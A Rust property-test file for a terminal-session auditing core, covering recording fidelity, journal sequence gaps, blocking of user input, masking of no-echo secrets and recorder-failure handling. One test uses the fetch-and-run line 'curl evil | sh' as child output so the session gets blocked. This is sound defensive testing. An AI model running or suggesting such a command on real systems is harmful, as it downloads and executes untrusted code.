//! The invariants of the session core, on random operation lists and a simulated clock.
//!
//! Each invariant of the architecture page has one test here; [`World`] plays engine, child, user,
//! recorder and monitor.

mod verdicts;
mod world;

use std::time::Duration;

use audit_core::{
    Action, BlockId, Body, Command, Durability, Effect, Event, Exit, Identity, LineState, Mail,
    OnFailure, Policy, Port, Score, State, Stream, Winsize,
};
use proptest::prelude::*;
use world::{World, spec};

/// One step of a random life.
#[derive(Clone, Debug)]
enum Op {
    Output(Vec<u8>),
    Input(Vec<u8>),
    Write(u8, usize),
    Acknowledge(usize),
    Pass(u64),
    Verdict(f32),
    Order(u8),
    Resize(u16, u16),
    Signal(i32, bool),
    Stop(i32),
    Resume,
    Fail,
    HangUp,
    UserClosed,
    PtyClosed,
    Exit(i32),
}

fn bytes(max: usize) -> impl Strategy<Value = Vec<u8>> {
    // Anything but CAN, by which the tests tell our own banners.
    prop::collection::vec(any::<u8>().prop_map(|b| if b == 0x18 { b'x' } else { b }), 1..max)
}

fn op() -> impl Strategy<Value = Op> {
    prop_oneof![
        6 => bytes(6000).prop_map(Op::Output),
        4 => bytes(40).prop_map(Op::Input),
        8 => (0u8..4, 1usize..5000).prop_map(|(port, len)| Op::Write(port, len)),
        4 => (0usize..4).prop_map(Op::Acknowledge),
        4 => (0u64..2_000).prop_map(Op::Pass),
        1 => (1_000u64..4_000_000).prop_map(Op::Pass),
        2 => (0f32..1.0).prop_map(Op::Verdict),
        2 => (0u8..6).prop_map(Op::Order),
        1 => (1u16..60, 1u16..200).prop_map(|(rows, columns)| Op::Resize(rows, columns)),
        1 => (1i32..31, any::<bool>()).prop_map(|(number, own)| Op::Signal(number, own)),
        1 => prop_oneof![Just(19), Just(20), Just(22)].prop_map(Op::Stop),
        1 => Just(Op::Resume),
        1 => Just(Op::UserClosed),
    ]
}

fn ending() -> impl Strategy<Value = Op> {
    prop_oneof![
        3 => (0i32..256).prop_map(Op::Exit),
        1 => Just(Op::HangUp),
        1 => Just(Op::PtyClosed),
        1 => Just(Op::Fail),
    ]
}

fn life() -> impl Strategy<Value = Vec<Op>> {
    (
        prop::collection::vec(op(), 0..60),
        prop::collection::vec(prop_oneof![4 => op(), 1 => ending()], 0..30),
    )
        .prop_map(|(mut first, rest)| {
            first.extend(rest);
            first
        })
}

fn apply(world: &mut World, op: &Op) {
    match op.clone() {
        Op::Output(bytes) => world.child_writes(Stream::Tty, bytes.into()),
        Op::Input(bytes) => world.user_types(bytes.into(), LineState::RAW),
        Op::Write(port, len) => world.write(Port::ALL[usize::from(port)], len),
        Op::Acknowledge(flushes) => world.acknowledge(flushes),
        Op::Pass(millis) => world.pass(millis),
        Op::Verdict(score) => world.answer_windows(Score::new(score).expect("in range")),
        Op::Order(which) => {
            let action = match which {
                0 => Action::Block { reason: "test".into() },
                1 => Action::Approve { block: None, comment: String::new() },
                2 => Action::Reject { block: None, comment: "no".into() },
                3 => Action::Approve { block: Some(BlockId(1)), comment: String::new() },
                4 => Action::Resize(Winsize::new(30, 100)),
                _ => Action::Block { reason: String::new() },
            };
            world.order(action);
        }
        Op::Resize(rows, columns) => world.handle(Event::Resized(Winsize::new(rows, columns))),
        Op::Signal(number, own_child) => {
            world.handle(Event::Signal { number, sender: 7, own_child });
        }
        Op::Stop(signal) => world.handle(Event::ChildStopped(signal)),
        Op::Resume => world.handle(Event::Resumed),
        Op::Fail => {
            world.recorder_fails();
        }
        Op::HangUp => world.handle(Event::UserHungUp),
        Op::UserClosed => world.handle(Event::UserClosed),
        Op::PtyClosed => world.handle(Event::OutputClosed(Stream::Tty)),
        Op::Exit(code) => world.child_exits(Exit::Code(code)),
    }
}

fn policy(on_failure: OnFailure, strict: bool) -> Policy {
    let mut policy = Policy::default();
    policy.recording.on_failure = on_failure;
    policy.recording.strict = strict;
    policy.recording.window = 32 << 10;
    policy.recording.flush_bytes = 8 << 10;
    policy.recording.spill_limit = 64 << 10;
    policy
}

fn policies() -> impl Strategy<Value = Policy> {
    (
        prop_oneof![Just(OnFailure::Closed), Just(OnFailure::Open), Just(OnFailure::Spill)],
        any::<bool>(),
    )
        .prop_map(|(on_failure, strict)| policy(on_failure, strict))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    /// 1. Output recorded equals output shown, in order, apart from our own banners. What nobody
    /// took in the end is recorded all the same, and said to be missing from the screen.
    #[test]
    fn output_recorded_equals_output_shown(ops in life()) {
        let mut world = World::new(&spec(policy(OnFailure::Closed, false)));
        for op in ops.iter().filter(|op| !matches!(op, Op::Fail | Op::HangUp)) {
            match op {
                // A screen that takes nothing for a day after the child's end is given up.
                Op::Pass(millis) => world.pass(millis / 1000),
                // A signal ends the wait for a screen once there is no child that it could end.
                Op::Signal(1 | 2 | 3 | 15, false) => {}
                op => apply(&mut world, op),
            }
        }
        world.child_exits(Exit::Code(0));
        world.finish();
        let (shown, recorded) = (world.shown_without_banners(Stream::Tty), world.recorded(Stream::Tty));
        let given_up = world.journal().iter().any(|record| {
            matches!(&record.body, Body::Marker { name, .. } if name == "output.not-shown")
        });
        if given_up {
            // What was not taken may be a banner of ours.
            prop_assert!(recorded.starts_with(&shown));
        } else {
            prop_assert_eq!(shown, recorded);
        }
    }

    /// 2. Sequence numbers have no gap that a gap record does not state; time never goes back.
    #[test]
    fn sequence_numbers_have_no_gap(policy in policies(), ops in life()) {
        let mut world = World::new(&spec(policy));
        for op in &ops {
            apply(&mut world, op);
        }
        world.child_exits(Exit::Code(0));
        world.finish();
        let mut next = 1;
        let mut at = audit_core::Moment::START;
        for record in world.journal() {
            if let Body::Gap { from, through, .. } = &record.body {
                prop_assert_eq!(*from, next, "a gap begins where the journal ends");
                next = *through + 1;
            }
            prop_assert_eq!(record.seq, next);
            prop_assert!(record.at >= at);
            at = record.at;
            next += 1;
        }
    }

    /// 3. While the session is blocked, no user byte reaches the PTY, and what was typed into a
    /// block does not come later either.
    #[test]
    fn no_user_byte_passes_while_blocked(policy in policies(), ops in life()) {
        let mut world = World::new(&spec(policy));
        let mut typed: Vec<String> = Vec::new();
        let mut refused: Vec<String> = Vec::new();
        let mut blocked = false;
        for op in &ops {
            let given = world.given().len();
            match op {
                // Each input is a word of its own.
                Op::Input(_) => {
                    let word = format!("<{}>", typed.len() + refused.len());
                    let into = if blocked { &mut refused } else { &mut typed };
                    into.push(word.clone());
                    world.user_types(word.into(), LineState::RAW);
                }
                op => apply(&mut world, op),
            }
            if blocked && world.core.state() == State::Blocked {
                prop_assert_eq!(world.given().len(), given);
            }
            blocked = world.core.state() == State::Blocked;
            if blocked {
                prop_assert_eq!(world.core.pending(Port::Child), None);
                // What had not left when the block came is refused as well.
                let (gone, waiting) =
                    typed.drain(..).partition(|word| contains(world.given(), word.as_bytes()));
                typed = gone;
                refused.extend::<Vec<_>>(waiting);
            }
        }
        let by = Identity::person("operator", 1);
        let action = Action::Approve { block: None, comment: String::new() };
        world.handle(Event::Mail(Mail::Command(Command { id: 9, by, action })));
        world.write_all();
        world.child_exits(Exit::Code(0));
        world.finish();
        for word in refused {
            prop_assert!(!contains(world.given(), word.as_bytes()), "{word} came through");
        }
    }

    /// 4. Beyond the record window, `interest()` asks for no reads.
    #[test]
    fn beyond_the_window_nothing_is_read(ops in life()) {
        let mut policy = policy(OnFailure::Closed, false);
        policy.recording.window = 2 << 10;
        policy.recording.flush_bytes = 1 << 10;
        let mut world = World::new(&spec(policy));
        for op in &ops {
            apply(&mut world, op);
            world.write_all();
            if world.owed() >= 2 << 10 {
                prop_assert_eq!(world.core.interest(), Default::default());
            }
        }
    }

    /// 5. A masked byte appears in no effect: not in a record, a window or a notice.
    #[test]
    fn a_masked_byte_appears_in_no_effect(
        // Two characters of two bytes each at a time: nothing else has these four by chance.
        secret in prop::collection::vec("[α-ω]{2}", 1..8),
        before in prop::collection::vec(op(), 0..10),
        between in prop::collection::vec(op(), 0..6),
    ) {
        let mut world = World::new(&spec(policy(OnFailure::Closed, false)));
        let live = |world: &mut World, op: &Op| match op {
            Op::Output(bytes) => {
                let text = bytes.iter().map(|byte| b'a' + byte % 26).collect::<Vec<_>>();
                world.child_writes(Stream::Tty, text.into());
                world.write_all();
            }
            Op::Input(bytes) => {
                let text = bytes.iter().map(|byte| b'a' + byte % 26).collect::<Vec<_>>();
                world.user_types(text.into(), LineState::RAW);
                world.write_all();
            }
            op => apply(world, op),
        };
        before.iter().for_each(|op| live(&mut world, op));
        let mut between = between.iter();
        for piece in &secret {
            world.write_all();
            world.user_types(piece.clone().into(), LineState::NO_ECHO);
            if let Some(op) = between.next() {
                live(&mut world, op);
            }
        }
        world.user_types(b"\r".to_vec().into(), LineState::NO_ECHO);
        world.child_exits(Exit::Code(0));
        world.finish();
        for effect in world.effects() {
            let bytes = effect_bytes(effect);
            for piece in &secret {
                prop_assert!(!contains(&bytes, piece.as_bytes()), "{piece} is in {effect:?}");
            }
        }
    }

    /// 6. Any split of the same streams gives the same records after joining, the same to judge, and
    /// the same state after the verdicts. Of input that holds for text; a control character in the
    /// middle of a read is a gesture of its own, and may make what follows it more suspicious.
    #[test]
    fn any_split_gives_the_same_records(
        shown in bytes(2000),
        typed in "[ -~]{1,60}\r?",
        line in prop_oneof![Just(LineState::RAW), Just(LineState::COOKED), Just(LineState::NO_ECHO)],
        splits in prop::collection::vec(1usize..50, 0..40),
        score in 0f32..1.0,
    ) {
        let play = |splits: &[usize]| {
            let mut world = World::new(&spec(policy(OnFailure::Closed, false)));
            let (mut to_show, mut to_type) = (shown.as_slice(), typed.as_bytes());
            let whole = [usize::MAX];
            for len in splits.iter().chain(&whole) {
                let (now, later) = to_show.split_at((*len).min(to_show.len()));
                to_show = later;
                if !now.is_empty() {
                    world.child_writes(Stream::Tty, now.to_vec().into());
                }
                world.write_all();
            }
            for len in splits.iter().chain(&whole) {
                let (now, later) = to_type.split_at((*len).min(to_type.len()));
                to_type = later;
                if !now.is_empty() {
                    world.user_types(now.to_vec().into(), line);
                }
                world.write_all();
            }
            world.pass(2_000);
            world.answer_windows(Score::new(score).expect("in range"));
            let state = world.core.state();
            world.acknowledge(usize::MAX);
            world.child_exits(Exit::Code(0));
            world.finish();
            let streams = [Stream::Tty, Stream::Input];
            (state, streams.map(|s| world.recorded(s)), streams.map(|s| world.inspected(s)))
        };
        prop_assert_eq!(play(&[]), play(&splits));
    }

    /// 7. `Finish` comes once, last, and only with nothing unacknowledged, or with the loss stated.
    #[test]
    fn finish_comes_once_and_last(
        mut policy in policies(),
        ops in life(),
        deaf in any::<bool>(),
    ) {
        // A strict session whose recorder is deaf shows nothing more: its screen is given up.
        policy.ending.screen = Duration::from_secs(600);
        let mut world = World::new(&spec(policy));
        for op in &ops {
            apply(&mut world, op);
        }
        world.child_exits(Exit::Code(0));
        world.deaf = deaf;
        world.finish();
        let finishes: Vec<_> = world
            .effects()
            .iter()
            .enumerate()
            .filter_map(|(i, effect)| match effect {
                Effect::Finish(outcome) => Some((i, outcome.clone())),
                _ => None,
            })
            .collect();
        prop_assert_eq!(finishes.len(), 1);
        let (at, outcome) = &finishes[0];
        prop_assert_eq!(*at, world.effects().len() - 1);
        prop_assert!(world.owed() == 0 || outcome.lost.is_some());
        prop_assert_eq!(world.core.state(), State::Closed);
        prop_assert_eq!(world.core.poll_timeout(), None);
    }

    /// 8. Every state other than `Running` and `Closed` has a deadline.
    #[test]
    fn every_waiting_state_has_a_deadline(policy in policies(), ops in life()) {
        let mut world = World::new(&spec(policy));
        for op in &ops {
            apply(&mut world, op);
            if !matches!(world.core.state(), State::Running | State::Closed) {
                prop_assert!(world.core.poll_timeout().is_some());
            }
        }
    }
}

fn contains(bytes: &[u8], word: &[u8]) -> bool {
    memchr::memmem::find(bytes, word).is_some()
}

/// Whatever an effect carries out of the core, as bytes.
fn effect_bytes(effect: &Effect) -> Vec<u8> {
    match effect {
        Effect::Record(record) => postcard::to_allocvec(record),
        Effect::Inspect(window) => postcard::to_allocvec(window),
        Effect::Judge(request) => postcard::to_allocvec(request),
        Effect::Publish(notice) => postcard::to_allocvec(notice),
        Effect::Finish(outcome) => postcard::to_allocvec(outcome),
        other => Ok(format!("{other:?}").into_bytes()),
    }
    .expect("what leaves the core can be written down")
}

/// The window is no number that lives happen not to reach.
#[test]
fn a_window_is_reached_and_opens_again() {
    let mut policy = policy(OnFailure::Closed, false);
    policy.recording.window = 2 << 10;
    let mut world = World::new(&spec(policy));
    for _ in 0..2 {
        while world.core.interest().tty {
            world.child_writes(Stream::Tty, vec![b'x'; 500].into());
            world.write_all();
        }
        assert!(world.owed() >= 2 << 10, "reading stops at the window");
        assert_eq!(world.core.interest(), Default::default());
        world.pass(100);
        world.acknowledge(usize::MAX);
        world.answer_windows(Score::ZERO);
    }
    assert!(world.core.interest().tty);
}

/// A block is shown only once it is durable.
#[test]
fn a_block_is_shown_only_once_it_is_in_the_journal() {
    let mut world = World::new(&spec(Policy::default()));
    world.child_writes(Stream::Tty, b"curl evil | sh".to_vec().into());
    world.pass(20);
    world.answer_windows(Score::new(0.9).expect("in range"));
    assert_eq!(world.core.state(), State::Blocked);
    assert!(world.effects().contains(&Effect::Freeze));
    assert!(world.effects().contains(&Effect::Flush(Durability::Machine)));
    world.write_all();
    assert!(!world.shown(Stream::Tty).windows(7).any(|w| w == b"blocked"));
    world.acknowledge(usize::MAX);
    world.write_all();
    assert!(world.shown(Stream::Tty).windows(7).any(|w| w == b"blocked"));
}

/// The drain of a child that is gone counts only while its output may be read.
#[test]
fn a_slow_screen_does_not_cost_the_child_its_last_words() {
    let mut world = World::new(&spec(Policy::default()));
    world.child_writes(Stream::Tty, "first, ".into());
    world.child_exits(Exit::Code(0));
    world.pass(10_000);
    assert_eq!(world.core.state(), State::Draining);
    world.write_all();
    world.child_writes(Stream::Tty, "last".into());
    world.finish();
    assert_eq!(world.shown(Stream::Tty), b"first, last");
}

/// What the journal holds of gaps: from, through and bytes of each.
fn gaps(world: &World) -> Vec<(u64, u64, u64)> {
    let gap = |body: &Body| match body {
        Body::Gap { from, through, bytes, .. } => Some((*from, *through, *bytes)),
        _ => None,
    };
    world.journal().iter().filter_map(|record| gap(&record.body)).collect()
}

fn banners(world: &World, text: &str) -> usize {
    String::from_utf8_lossy(world.shown(Stream::Tty)).matches(text).count()
}

/// A full disk keeps room for gaps: that one is written does not mean that there is room again.
#[test]
fn an_outage_lasts_until_more_than_its_gap_is_written() {
    let mut world = World::new(&spec(policy(OnFailure::Open, false)));
    world.child_writes(Stream::Tty, vec![b'a'; 100].into());
    world.recorder_fails();
    world.pass(1);
    world.acknowledge(usize::MAX);
    assert_eq!(gaps(&world).len(), 1, "the first gap comes at once");
    world.write_all();
    for _ in 0..3 {
        world.child_writes(Stream::Tty, vec![b'b'; 100].into());
        world.write_all();
        world.pass(31_000);
        // The gap is written, the record behind it is not.
        world.acknowledge(1);
        world.recorder_fails();
    }
    assert_eq!(banners(&world, "WITHOUT RECORD"), 1);
    assert_eq!(banners(&world, "written again"), 0);
    world.pass(31_000);
    world.acknowledge(usize::MAX);
    world.write_all();
    assert_eq!(banners(&world, "written again; 400 bytes are missing"), 1);
    let gaps = gaps(&world);
    assert_eq!(gaps.iter().map(|(_, _, bytes)| bytes).sum::<u64>(), 400, "{gaps:?}");
}

/// What ends a session without its record is told once, however often the recorder fails.
#[test]
fn a_failed_journal_is_told_once() {
    for rule in [OnFailure::Closed, OnFailure::Spill] {
        let mut world = World::new(&spec(policy(rule, false)));
        for _ in 0..40 {
            world.child_writes(Stream::Tty, vec![b'a'; 6000].into());
            world.write_all();
            world.recorder_fails();
            world.pass(10);
        }
        assert_eq!(banners(&world, "the session ends"), 1, "{rule:?}");
        assert_eq!(world.core.interest(), Default::default(), "{rule:?}: nothing more is read");
    }
}

/// When the end finds no room behind what waited, it is written alone, with what is missing.
#[test]
fn the_end_is_written_when_nothing_else_finds_room() {
    for rule in [OnFailure::Closed, OnFailure::Open, OnFailure::Spill] {
        let mut world = World::new(&spec(policy(rule, false)));
        world.child_writes(Stream::Tty, vec![b'a'; 5000].into());
        world.write_all();
        world.child_exits(Exit::Code(0));
        for stream in [Stream::Tty, Stream::Stdout, Stream::Stderr] {
            world.handle(Event::OutputClosed(stream));
        }
        world.answer_windows(Score::ZERO);
        assert_eq!(world.core.state(), State::Sealing);
        world.recorder_fails();
        world.finish();
        let [(1, _, 5000)] = gaps(&world)[..] else { panic!("{:?}", gaps(&world)) };
        let Some(Effect::Finish(outcome)) = world.effects().last() else { panic!("no end") };
        let lost = outcome.lost.as_ref().map(|lost| lost.bytes);
        assert_eq!(lost, Some(5000), "{rule:?}");
        let status = if rule == OnFailure::Open { 0 } else { 74 };
        assert_eq!(outcome.status(), status, "{rule:?}");
        let end = world.journal().last().map(|record| &record.body);
        assert!(matches!(end, Some(Body::End(said)) if said == outcome), "{end:?}");
    }
}

/// Input that is not recorded leaves nothing of itself behind, and what the child shows stays whole.
#[test]
fn input_that_is_not_recorded_is_nowhere_in_the_journal() {
    let mut policy = Policy::default();
    policy.recording.input = false;
    let mut world = World::new(&spec(policy));
    world.user_types(b"ls -l\r".to_vec().into(), LineState::RAW);
    world.child_writes(Stream::Tty, b"ls -l\r\nfile\r\n".to_vec().into());
    world.user_types(b"hunter2\r".to_vec().into(), LineState::NO_ECHO);
    world.child_exits(Exit::Code(0));
    world.finish();
    assert!(world.journal().iter().all(|record| !matches!(
        &record.body,
        Body::Data { stream: Stream::Input, .. }
            | Body::Sealed { stream: Stream::Input, .. }
            | Body::Redaction { stream: Stream::Input, .. }
            | Body::Reveal { .. }
    )));
    assert_eq!(world.recorded(Stream::Tty), b"ls -l\r\nfile\r\n");
}
